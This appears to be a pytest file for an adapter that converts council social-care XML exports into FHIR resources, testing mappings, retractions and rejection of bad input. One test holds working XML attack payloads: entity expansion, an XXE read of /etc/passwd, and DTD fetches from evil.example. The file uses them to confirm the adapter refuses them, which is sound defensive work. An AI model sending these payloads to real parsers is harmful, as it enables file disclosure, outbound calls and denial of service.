"""Social-care case-record export adapter: docs/formats.md contract, every section, retraction, unsafe XML."""
from __future__ import annotations

import base64
from pathlib import Path

import pytest

from adapters.base import (
    Adapter,
    AdapterError,
    MappedRecord,
    Rejected,
    SourceMessage,
    stable_id,
)
from adapters.conventions import (
    CARE_TEAM_ROLE,
    CONSENT_POLICY,
    DATA_CATEGORY,
    EXT_ACCESS_VALUE,
    EXT_BEST_INTERESTS,
    EXT_DECISION,
    EXT_DETAIL,
    EXT_ENQUIRY_STATUS,
    EXT_PARTICIPANT_CONTACT,
    EXT_PARTICIPANT_TEAM,
    EXT_REASONING,
    EXT_UNMAPPED,
    FLAG_CATEGORY_HL7,
    FLAG_CATEGORY_LOCAL,
    LOCAL_ITEM,
)
from adapters.social_care import SocialCareAdapter
from adapters.synthetic.people import invent_people
from adapters.synthetic.social_care import social_care_exports, write_social_care
from gateway.testing import run_adapter

FIXTURES = Path(__file__).parent.parent / "fixtures" / "social_care"
ADAPTER = SocialCareAdapter()
ODS = "https://fhir.nhs.uk/Id/ods-organization-code"


def run(raw: bytes, origin: str = "export.xml", adapter: SocialCareAdapter = ADAPTER
        ) -> tuple[list[SourceMessage], list[MappedRecord], list[Rejected]]:
    return run_adapter(adapter, raw, origin)


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def by_location(records: list[MappedRecord]) -> dict[str, dict]:
    return {r.location: r.resource for r in records}


def ext(resource: dict, url: str) -> object:
    found = [e for e in resource.get("extension", []) if e["url"] == url]
    return next((v for e in found for k, v in e.items() if k.startswith("value")), None)


def codes(concept: dict) -> set[tuple[str | None, str]]:
    return {(c.get("system"), c["code"]) for c in concept.get("coding", [])}


def roles(team: dict) -> list[str]:
    return [c["code"] for p in team["participant"] for r in p["role"] for c in r.get("coding", [])]


@pytest.fixture(scope="module")
def example() -> tuple[list[SourceMessage], list[MappedRecord], list[Rejected]]:
    return run(fixture("formats_example.xml"))


def test_implements_the_adapter_protocol() -> None:
    assert isinstance(ADAPTER, Adapter) and ADAPTER.format == "social-care" and ADAPTER.version


def test_formats_example_loads(example) -> None:
    messages, records, rejected = example
    assert rejected == []
    [message] = messages
    assert message.source_system == "C8Q2R" and message.message_time.isoformat() == "2026-11-03T18:00:00+00:00"
    assert all(r.source_system == "C8Q2R" and r.patient_nhs_number == "9434765919" for r in records)
    assert all(r.source_updated is not None and r.source_updated.tzinfo for r in records)
    sections = {r.location: r.hints["section"] for r in records}
    assert sections == {
        "/CaseRecordExport/Person": "Person", "/CaseRecordExport/Contacts/Relative": "Contacts",
        "/CaseRecordExport/Contacts/Attorney": "Contacts", "/CaseRecordExport/Alerts/Alert": "Alerts",
        "/CaseRecordExport/Access/KeySafe": "Access", "/CaseRecordExport/Access/Instructions": "Access",
        "/CaseRecordExport/CapacityAssessments/CapacityAssessment": "CapacityAssessments",
        "/CaseRecordExport/Safeguarding/Concern": "Safeguarding",
        "/CaseRecordExport/CarePackage/Service": "CarePackage", "/CaseRecordExport/CaseNotes/Note": "CaseNotes",
        "/CaseRecordExport/SharingPreferences/Objection": "SharingPreferences",
        "/CaseRecordExport/SharingPreferences/Consent": "SharingPreferences",
        "/CaseRecordExport/Contacts": "Contacts",
    }


def test_verbatim_formats_example_loads_and_reports_its_placeholders() -> None:
    """The page's example has '…' for most timestamps: it parses, the Person maps, and each
    placeholder is reported where it is, never raised."""
    _, records, rejected = run(fixture("formats_example_verbatim.xml"))
    assert [r.resource["resourceType"] for r in records] == ["Patient"]
    assert "/CaseRecordExport/Contacts/Worker/@updated" in {r.location for r in rejected}
    assert all("'…' is not an ISO 8601 date-time" == r.reason for r in rejected)
    assert len(rejected) == 11  # every item but the Person


def test_person_to_patient(example) -> None:
    patient = by_location(example[1])["/CaseRecordExport/Person"]
    assert patient["id"] == stable_id("C8Q2R", "Patient", "LA-204411")
    assert patient["identifier"][0] == {"system": "https://fhir.nhs.uk/Id/nhs-number", "value": "9434765919"}
    assert patient["name"][0]["family"] == "Brook" and patient["birthDate"] == "1938-02-14"
    assert patient["generalPractitioner"][0]["identifier"] == {"system": ODS, "value": "P81001"}


def test_contacts_become_care_team_and_related_people(example) -> None:
    found = by_location(example[1])
    team = found["/CaseRecordExport/Contacts"]
    assert roles(team) == ["allocated-social-worker", "next-of-kin", "key-holder",
                           "lpa-health-and-welfare", "home-care-provider"]
    worker = team["participant"][0]
    assert worker["onBehalfOf"]["identifier"] == {"system": ODS, "value": "C8Q2R"}
    assert ext(worker, EXT_PARTICIPANT_TEAM) == "ASC-NORTH"
    contacts = [e["valueContactPoint"] for e in worker["extension"] if e["url"] == EXT_PARTICIPANT_CONTACT]
    assert {c["system"]: c["value"] for c in contacts} == {"phone": "0161 555 0199",
                                                           "email": "tom.ellis@council.example"}
    provider = team["participant"][-1]
    assert provider["member"]["identifier"] == {"system": ODS, "value": "VNX12"}
    relative = found["/CaseRecordExport/Contacts/Relative"]
    assert [codes(r) for r in relative["relationship"]] == [
        {(CARE_TEAM_ROLE, "next-of-kin")}, {(CARE_TEAM_ROLE, "key-holder")},
        {("http://terminology.hl7.org/CodeSystem/v3-RoleCode", "DAU")}]
    assert relative["telecom"][0]["use"] == "mobile"
    attorney = found["/CaseRecordExport/Contacts/Attorney"]
    assert codes(attorney["relationship"][0]) == {(CARE_TEAM_ROLE, "lpa-health-and-welfare")}
    assert attorney["period"] == {"start": "2024-05-01"}
    lpa = team["participant"][3]
    assert lpa["member"]["reference"] == f"RelatedPerson/{attorney['id']}"


def test_alert_is_a_safety_flag_with_separate_detail(example) -> None:
    flag = by_location(example[1])["/CaseRecordExport/Alerts/Alert"]
    assert codes(flag["category"][0]) == {(FLAG_CATEGORY_HL7, "safety")}
    assert codes(flag["code"]) == {(LOCAL_ITEM, "VIOL")}
    assert flag["code"]["text"] == "History of verbal aggression towards visiting staff"
    assert ext(flag, EXT_DETAIL).startswith("Shouted at") and "Shouted" not in str(flag["code"])
    assert flag["period"] == {"start": "2025-06-10"}


def test_access_items(example) -> None:
    found = by_location(example[1])
    keysafe, instructions = found["/CaseRecordExport/Access/KeySafe"], found["/CaseRecordExport/Access/Instructions"]
    for flag in (keysafe, instructions):
        assert codes(flag["category"][0]) == {(FLAG_CATEGORY_LOCAL, "access")}
    assert (ext(keysafe, EXT_ACCESS_VALUE), ext(instructions, EXT_ACCESS_VALUE)) == ("5190", "Side door")
    assert codes(keysafe["code"]) == {(LOCAL_ITEM, "KEYSAFE")}
    assert codes(instructions["code"]) == {(LOCAL_ITEM, "ACCESS")}
    assert keysafe["id"] != instructions["id"]


def test_capacity_assessment_fields_are_separately_selectable(example) -> None:
    mca = by_location(example[1])["/CaseRecordExport/CapacityAssessments/CapacityAssessment"]
    assert mca["resourceType"] == "Observation" and codes(mca["code"]) == {(LOCAL_ITEM, "MCA")}
    assert codes(mca["valueCodeableConcept"]) == {(LOCAL_ITEM, "LACKS")}
    assert ext(mca, EXT_DECISION) == "Whether to move into residential care"
    assert ext(mca, EXT_REASONING).startswith("Could not retain")
    assert ext(mca, EXT_BEST_INTERESTS).startswith("Remain at home")
    assert mca["effectiveDateTime"] == "2026-09-30" and mca["performer"][0]["display"] == "Tom Ellis (social-worker)"


def test_safeguarding_concern(example) -> None:
    flag = by_location(example[1])["/CaseRecordExport/Safeguarding/Concern"]
    assert codes(flag["category"][0]) == {(FLAG_CATEGORY_LOCAL, "safeguarding")}
    assert ext(flag, EXT_ENQUIRY_STATUS) == "section-42-enquiry-open" and flag["status"] == "active"
    assert ext(flag, EXT_DETAIL).startswith("Concern about unexplained withdrawals")


def test_service_to_care_plan(example) -> None:
    plan = by_location(example[1])["/CaseRecordExport/CarePackage/Service"]
    assert codes(plan["category"][0]) == {(LOCAL_ITEM, "CAREPACKAGE")} and plan["status"] == "active"
    assert plan["author"]["identifier"] == {"system": ODS, "value": "VNX12"}
    detail = plan["activity"][0]["detail"]
    assert detail["performer"][0]["identifier"]["value"] == "VNX12"
    assert detail["scheduledTiming"]["repeat"] == {"frequency": 4, "period": 1, "periodUnit": "d",
                                                   "timeOfDay": ["08:00:00", "12:30:00", "17:00:00", "21:00:00"]}
    assert "4 calls per day" in plan["description"]


def test_case_note_to_document_reference(example) -> None:
    doc = by_location(example[1])["/CaseRecordExport/CaseNotes/Note"]
    assert codes(doc["type"]) == {(LOCAL_ITEM, "CASENOTE")} and doc["status"] == "current"
    text = base64.b64decode(doc["content"][0]["attachment"]["data"]).decode()
    assert text == "Visited with her daughter; care package working well."


def test_sharing_preferences_to_consent(example) -> None:
    found = by_location(example[1])
    objection = found["/CaseRecordExport/SharingPreferences/Objection"]
    consent = found["/CaseRecordExport/SharingPreferences/Consent"]
    attorney = found["/CaseRecordExport/Contacts/Attorney"]
    patient = found["/CaseRecordExport/Person"]
    for resource in (objection, consent):
        assert resource["status"] == "active"
        assert codes(resource["scope"]) == {("http://terminology.hl7.org/CodeSystem/consentscope", "patient-privacy")}
        assert codes(resource["category"][0]) == {("http://loinc.org", "59284-0")}
        assert codes(resource["policyRule"]) == {(CONSENT_POLICY, "sharing-preference")}
    assert objection["provision"]["type"] == "deny" and consent["provision"]["type"] == "permit"
    assert objection["provision"]["actor"][0]["reference"]["identifier"] == {"system": ODS, "value": "P81001"}
    assert consent["provision"]["actor"][0]["reference"]["identifier"] == {"system": ODS, "value": "RX1"}
    assert objection["provision"]["securityLabel"] == [{"system": DATA_CATEGORY, "code": "case_notes"}]
    assert consent["provision"]["securityLabel"] == [{"system": DATA_CATEGORY, "code": "capacity_assessment"}]
    assert consent["performer"] == [{"reference": f"RelatedPerson/{attorney['id']}"}]
    assert objection["performer"] == [{"reference": f"Patient/{patient['id']}"}]


def test_retractions_namespaces_and_unknown_content() -> None:
    _, records, rejected = run(fixture("retractions_and_extras.xml"))
    found = by_location(records)
    assert found["/CaseRecordExport/Person"]["identifier"][0]["value"] == "9434765919"
    assert records[0].patient_nhs_number == "9434765919"
    assert "Religion: Church of England" in ext(found["/CaseRecordExport/Person"], EXT_UNMAPPED)
    assert found["/CaseRecordExport/Alerts/Alert[1]"]["status"] == "entered-in-error"
    oxygen = found["/CaseRecordExport/Alerts/Alert[2]"]
    assert oxygen["status"] == "active" and {c.get("text") for c in oxygen["category"]} >= {"environment"}
    assert "ReviewDate: 2027-01-01" in ext(oxygen, EXT_UNMAPPED)
    concern = found["/CaseRecordExport/Safeguarding/Concern"]
    assert concern["status"] == "inactive" and ext(concern, EXT_ENQUIRY_STATUS) == "closed"
    assert "AllegedSource: Unknown caller" in ext(concern, EXT_DETAIL)  # detail, never the summary
    assert found["/CaseRecordExport/CarePackage/Service"]["status"] == "completed"
    assert found["/CaseRecordExport/CaseNotes/Note"]["status"] == "entered-in-error"
    assert found["/CaseRecordExport/SharingPreferences/Objection"]["status"] == "entered-in-error"
    team = found["/CaseRecordExport/Contacts"]
    assert roles(team) == ["allocated-social-worker", "lpa-property-and-financial"]  # W-1 retracted
    assert team["participant"][0]["member"]["display"] == "Asha Patel"
    consent_record = next(r for r in records if r.location.endswith("/Consent"))
    assert "performer" not in consent_record.resource and "warning" in consent_record.hints
    assert [(r.location, "unknown section <Medications>" in r.reason) for r in rejected] == [
        ("/CaseRecordExport/Medications", True)]


def test_care_team_is_resent_empty_when_every_member_is_retracted() -> None:
    raw = fixture("formats_example.xml")
    for tag in (b"<Worker ", b"<Relative ", b"<Attorney ", b"<Service "):
        raw = raw.replace(tag, tag + b'status="entered-in-error" ')
    _, records, rejected = run(raw)
    team = by_location(records)["/CaseRecordExport/Contacts"]
    assert rejected == [] and team["status"] == "inactive" and "participant" not in team


@pytest.mark.parametrize(("old", "new", "location", "reason"), [
    (b'date="2026-09-30"', b'date="30/09/2026"',
     "/CaseRecordExport/CapacityAssessments/CapacityAssessment/@date", "is not a date"),
    (b'<Alert id="AL-1" updated="2025-06-10T15:20:00+01:00"', b'<Alert id="AL-1" updated="yesterday"',
     "/CaseRecordExport/Alerts/Alert/@updated", "'yesterday' is not an ISO 8601 date-time"),
    (b'<Note id="CN-1" ', b'<Note ', "/CaseRecordExport/CaseNotes/Note/@id", "missing"),
    (b'callsPerDay="4"', b'callsPerDay="four"', "/CaseRecordExport/CarePackage/Service/@callsPerDay", "'four'"),
    (b'times="08:00,12:30', b'times="8am,12:30', "/CaseRecordExport/CarePackage/Service/@times", "'8am'"),
    (b"<BirthDate>1938-02-14", b"<BirthDate>1938-02-30", "/CaseRecordExport/Person/BirthDate", "not a date"),
    (b"<Gender>female", b"<Gender>F", "/CaseRecordExport/Person/Gender", "'f' is not one of"),
])
def test_bad_item_is_rejected_alone_with_its_path(old: bytes, new: bytes, location: str, reason: str) -> None:
    raw = fixture("formats_example.xml")
    assert old in raw
    _, records, rejected = run(raw.replace(old, new))
    assert [(r.location, reason in r.reason) for r in rejected] == [(location, True)], rejected
    assert rejected[0].raw.startswith(b"<")
    assert len(records) == 12


def test_person_missing_or_duplicated() -> None:
    raw = fixture("formats_example.xml")
    start, end = raw.index(b"<Person"), raw.index(b"</Person>") + len(b"</Person>")
    _, records, rejected = run(raw[:start] + raw[end:])
    assert records == [] and rejected[0].location == "/CaseRecordExport/Person"
    _, records, rejected = run(raw[:end] + raw[start:end] + raw[end:])
    assert records == [] and "found 2" in rejected[0].reason


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE CaseRecordExport [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<CaseRecordExport council="C8Q2R">&lol3;</CaseRecordExport>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CaseRecordExport [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CaseRecordExport council="C8Q2R">
<Person id="P1" updated="2026-01-01T00:00:00+00:00">&xxe;</Person></CaseRecordExport>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE CaseRecordExport SYSTEM "http://evil.example/case.dtd">
<CaseRecordExport council="C8Q2R"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>
<CaseRecordExport council="C8Q2R"/>"""


@pytest.mark.parametrize(("raw", "reason"), [
    (BILLION_LAUGHS, "DTD"), (EXTERNAL_ENTITY, "DTD"), (EXTERNAL_DTD, "DTD"), (PARAMETER_ENTITY, "DTD"),
])
def test_unsafe_xml_is_refused(raw: bytes, reason: str) -> None:
    with pytest.raises(AdapterError) as caught:
        list(ADAPTER.parse(raw, "evil.xml"))
    assert reason in caught.value.reason and caught.value.location == "evil.xml"


@pytest.mark.parametrize(("raw", "location", "reason"), [
    (b"", "x.xml", "empty input"),
    (b"<CaseRecordExport council='C8Q2R'>", "x.xml:line 1, column 34", "no element found"),
    (b"<Export council='C8Q2R'/>", "/Export", "root element is not <CaseRecordExport>"),
    (b"<CaseRecordExport/>", "/CaseRecordExport/@council", "missing"),
    (b"<CaseRecordExport council='C8Q2R' exported='soon'/>", "/CaseRecordExport/@exported", "'soon'"),
    (b"<CaseRecordExport council='C8Q2R'>\xff</CaseRecordExport>", "x.xml:line 1, column 34", "not well-formed"),
])
def test_unreadable_exports_raise_adapter_error(raw: bytes, location: str, reason: str) -> None:
    with pytest.raises(AdapterError) as caught:
        list(ADAPTER.parse(raw, "x.xml"))
    assert caught.value.location == location and reason in caught.value.reason


def test_size_bound() -> None:
    small = SocialCareAdapter(max_bytes=1000)
    with pytest.raises(AdapterError, match="limit is 1000"):
        list(small.parse(fixture("formats_example.xml"), "big.xml"))


def test_generator_is_deterministic_and_maps_cleanly(tmp_path: Path) -> None:
    people = invent_people(40, seed=5)
    exports = social_care_exports(people, seed=2)
    assert exports == social_care_exports(people, seed=2)
    paths = write_social_care(tmp_path, people, seed=2)
    assert [p.read_bytes() for p in paths] == list(exports.values())
    by_nhs = {p.nhs_number: p for p in people}
    seen: dict[str, list[MappedRecord]] = {}
    for name, raw in exports.items():
        _, records, rejected = run(raw, name)
        assert rejected == [], (name, rejected)
        seen.setdefault(records[0].patient_nhs_number, []).extend(records)
    assert set(seen) == set(by_nhs)
    for number, records in seen.items():
        person = by_nhs[number]
        sections = [r.hints["section"] for r in records]
        assert ("Alerts" in sections) == (person.risk_flag is not None)
        assert ("Safeguarding" in sections) == person.safeguarding
        assert ("CapacityAssessments" in sections) == (person.lacks_capacity is not None)
        objections = [r for r in records if r.location.endswith("/Objection")]
        assert bool(objections) == person.objects_to_gp_seeing_case_notes
        for objection in objections:
            actor = objection.resource["provision"]["actor"][0]["reference"]["identifier"]["value"]
            assert actor == person.practice_ods
        team = next(r.resource for r in records if r.resource["resourceType"] == "CareTeam")
        assert person.social_worker[0] in str(team) and person.care_provider[0] in str(team)


def test_sloppy_attribute_values_still_give_valid_r4() -> None:
    raw = fixture("formats_example.xml").replace(b'status="section-42-enquiry-open"', b'status="open   s42 "').replace(
        b'category="case_notes"', b'category="case  notes"').replace(b'code="VIOL"', b'code=" VIOL  x"').replace(
        b'council="C8Q2R"', b'council="C8Q 2R"')
    _, records, rejected = run(raw)  # run() asserts every resource validates
    assert rejected == []
    concern = by_location(records)["/CaseRecordExport/Safeguarding/Concern"]
    assert ext(concern, EXT_ENQUIRY_STATUS) == "open s42"


def test_generated_access_details_agree_with_the_hl7_feed() -> None:
    from adapters.community_hl7v2 import Hl7v2Adapter
    from adapters.synthetic.hl7v2 import hl7v2_messages

    people = invent_people(10, seed=8)
    hl7 = Hl7v2Adapter()
    from_hl7 = {(r.patient_nhs_number, ext(r.resource, EXT_ACCESS_VALUE))
                for m in hl7.parse(hl7v2_messages(people), "dn.hl7") for r in hl7.map(m)
                if r.resource["resourceType"] == "Flag" and "KEYSAFE" in str(r.resource["code"])}
    from_council = {(r.patient_nhs_number, ext(r.resource, EXT_ACCESS_VALUE))
                    for raw in social_care_exports(people).values() for r in run(raw)[1]
                    if r.location.endswith("/KeySafe")}
    assert from_hl7 == from_council and len(from_hl7) == 10
